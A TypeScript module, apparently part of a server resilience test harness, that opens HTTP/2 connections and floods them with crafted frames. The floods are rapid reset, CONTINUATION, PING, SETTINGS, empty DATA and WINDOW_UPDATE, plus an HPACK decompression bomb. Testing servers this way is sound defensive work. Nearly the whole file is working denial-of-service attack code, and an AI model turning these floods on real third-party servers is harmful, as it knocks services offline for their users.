/** Floods of HTTP/2 frames at the edge. Each costs its sender little, and ends its own connection. */
import type { Socket } from 'node:net'
import { dial } from '../../support/caller-http1.ts'
import { END_HEADERS, END_STREAM, field, frame, length, PREFACE, TYPE } from '../../support/http2-frames.ts'
import { type Attack, each, scaled } from '../attack.ts'
import type { World } from '../world.ts'

/** Frames are sent in batches, as an attacker would. */
const LOT = 50

/** Sends batches until the server ends the connection or all are sent. Discards whatever arrives. */
export async function flood(socket: Socket, lots: number, make: (lot: number) => Buffer): Promise<void> {
  let ended = false
  const over = new Promise<void>(resolve => {
    const end = () => {
      ended = true
      resolve()
    }
    socket.on('close', end).on('end', end)
  })
  socket.resume()
  for (let lot = 0; lot < lots && !ended; lot++) {
    if (!socket.write(make(lot))) await Promise.race([new Promise(resolve => socket.once('drain', resolve)), over])
    else await new Promise(resolve => setImmediate(resolve))
  }
  socket.destroy()
}

function head(world: World, runtime: string, method: string, ...more: [string, string][]): Buffer {
  const fields: [string, string][] = [
    [':method', method],
    [':scheme', 'https'],
    [':path', '/attack'],
    [':authority', world.place(runtime).authority],
    ...more,
  ]
  return Buffer.concat(fields.map(([name, value]) => field(name, value)))
}

type Frames = (n: number, head: (method: string, ...more: [string, string][]) => Buffer) => Buffer

function http2Attack(name: string, frames: number, make: Frames, runtime = 'nobody'): Attack {
  return {
    name,
    async round(world, share) {
      const lots = Math.ceil(scaled(frames, share) / LOT)
      await each(4, 4, async () => {
        const socket = await dial(world.place(runtime), ['h2'])
        socket.write(Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0), frame(TYPE.settings, 1, 0)]))
        await flood(socket, lots, lot =>
          Buffer.concat(
            Array.from({ length: LOT }, (_, i) =>
              make(lot * LOT + i, (method, ...more) => head(world, runtime, method, ...more)),
            ),
          ),
        )
      })
    },
  }
}

const CANCEL = Buffer.from([0, 0, 0, 8])

/** Puts a field into the dynamic table, then refers to it: a few bytes that decode to many. */
function hpackBomb(): Buffer {
  const value = 'y'.repeat(3800)
  const name = Buffer.concat([Buffer.from([0x40]), length('x'), Buffer.from('x')])
  return Buffer.concat([name, length(value), Buffer.from(value), Buffer.alloc(4000, 0x80 | 62)])
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  http2Attack('HTTP/2 rapid reset', 20_000, (n, head) =>
    Buffer.concat([
      frame(TYPE.headers, END_HEADERS | END_STREAM, n * 2 + 1, head('GET')),
      frame(TYPE.reset, 0, n * 2 + 1, CANCEL),
    ]),
  ),
  http2Attack('HTTP/2 CONTINUATION', 20_000, (n, head) =>
    n === 0 ? frame(TYPE.headers, 0, 1, head('GET')) : frame(TYPE.continuation, 0, 1, field('x', 'y'.repeat(100))),
  ),
  http2Attack('HTTP/2 PING', 200_000, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  http2Attack('HTTP/2 SETTINGS', 200_000, () => frame(TYPE.settings, 0, 0)),
  http2Attack('HTTP/2 empty DATA', 400_000, (n, head) =>
    n === 0 ? frame(TYPE.headers, END_HEADERS, 1, head('POST')) : frame(TYPE.data, 0, 1),
  ),
  http2Attack('HTTP/2 WINDOW_UPDATE', 400_000, () => frame(TYPE.window, 0, 0, Buffer.from([0, 0, 0, 1]))),
  http2Attack('HPACK bomb', 200, (n, head) =>
    frame(TYPE.headers, END_HEADERS | END_STREAM, n * 2 + 1, Buffer.concat([head('GET'), hpackBomb()])),
  ),
]
